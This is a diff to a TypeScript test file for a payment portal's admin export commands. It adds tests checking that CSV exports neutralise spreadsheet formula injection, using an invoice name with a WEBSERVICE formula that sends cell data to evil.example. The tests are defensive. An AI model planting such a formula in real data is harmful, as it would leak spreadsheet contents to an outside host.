@@ -109,7 +109,7 @@ describe('portal list, payment list and export', () => {
     transactions = await withDb(env, async ({ db }) => {
       const handle = createRequestHandler(db, testSettings('d'.repeat(40)));
       const form = async (change: Partial<typeof INVOICE> = {}) =>
-        (await sendTo(handle, 'submit/portal/invoiceinfo', { ...INVOICE, portalId, ...change }, '192.0.2.8')).answer.transactionId as string;
+        (await sendTo(handle, 'submit/portal/invoiceinfo', { ...INVOICE, groupCodeIdent: 'PAYLIST01', portalId, ...change }, '192.0.2.8')).answer.transactionId as string;
       const paid = await form();
       const declined = await form({ invoiceIsPrivate: false, invoiceName: 'Muster, "GmbH"' });
       const open = await form();
@@ -196,7 +196,7 @@ describe('payment list: what became of each confirmation mail', () => {
         ['outbox', 'outbox', 1, null],
       ];
       for (const [state, mail, attempts, nextAt] of states) {
-        const transactionId = (await sendTo(handle, 'submit/portal/invoiceinfo', { ...INVOICE, portalId, invoiceProductText: 'Teamanalyse', invoiceProductPrice: 99 }, '192.0.2.9')).answer.transactionId as string;
+        const transactionId = (await sendTo(handle, 'submit/portal/invoiceinfo', { ...INVOICE, groupCodeIdent: 'PAYLIST01', portalId, invoiceProductText: 'Teamanalyse', invoiceProductPrice: 99 }, '192.0.2.9')).answer.transactionId as string;
         await db.query(
           `insert into payment (transaction_id, paypal_order_id, paypal_capture_id, amount_cents, currency, recorded_at, confirmation_mail, confirmation_attempts, confirmation_next_at)
            values ($1, $2, 'CAPTURE000000002', 9900, 'EUR', '2026-01-02T03:04:05Z', $3, $4, $5)`,
@@ -231,5 +231,31 @@ describe('payment list: what became of each confirmation mail', () => {
   it('the help says what each state means', async () => {
     const { io } = await admin('payment', 'list', '--help');
     for (const words of ['retrying (an attempt failed; the next is due at confirmation_next_at)', 'failed (for good', 'confirmation_attempts counts']) expect(io.text().replace(/\s+/g, ' ')).toContain(words);
+  });
+});
+
+describe('an invoice name that German Excel would split into a formula', () => {
+  const NAME = 'Acme;=WEBSERVICE("https://evil.example/?"&A1)';
+  let transactionId: string;
+
+  beforeAll(async () => {
+    const { rows } = await admin('portal', 'create', '--product-text', 'Teamanalyse', '--price', '99', '--group-code-ident', 'EXCELSPLIT1');
+    const portalId = Number(rows[0]!.portal_id);
+    transactionId = await withDb(env, async ({ db }) => {
+      const handle = createRequestHandler(db, testSettings('f'.repeat(40)));
+      return (await sendTo(handle, 'submit/portal/invoiceinfo', { ...INVOICE, groupCodeIdent: 'EXCELSPLIT1', portalId, invoiceProductText: 'Teamanalyse', invoiceProductPrice: 99, invoiceName: NAME }, '192.0.2.10')).answer.transactionId as string;
+    });
+  });
+
+  it.each([[[] as string[], ','], [['--excel'], ';']])('payment export %j: quoted, and no cell a split at , or ; makes starts a formula', async (options, separator) => {
+    const { code, io, rows } = await admin('payment', 'export', ...options);
+    expect(code).toBe(EXIT.ok);
+    expect(rows.find((r) => r.transaction_id === transactionId)!.invoice_name).toBe(`Acme;'=WEBSERVICE("https://evil.example/?"&A1)`);
+    const line = io.text().split('\r\n').find((l) => l.startsWith(`${transactionId}${separator}`))!;
+    expect(line).toContain(`${separator}"Acme;'=WEBSERVICE(""https://evil.example/?""&A1)"${separator}`);
+    // As Excel in German opens a comma-separated file directly: split at ';' (and at ',' for good measure), quotes or not.
+    for (const cell of line.split(/[;,]/)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    const json = JSON.parse((await admin('payment', 'export', '--format', 'json')).io.text()) as Array<Record<string, unknown>>;
+    expect(json.find((r) => r.transaction_id === transactionId)!.invoice_name).toBe(NAME);
   });
 });
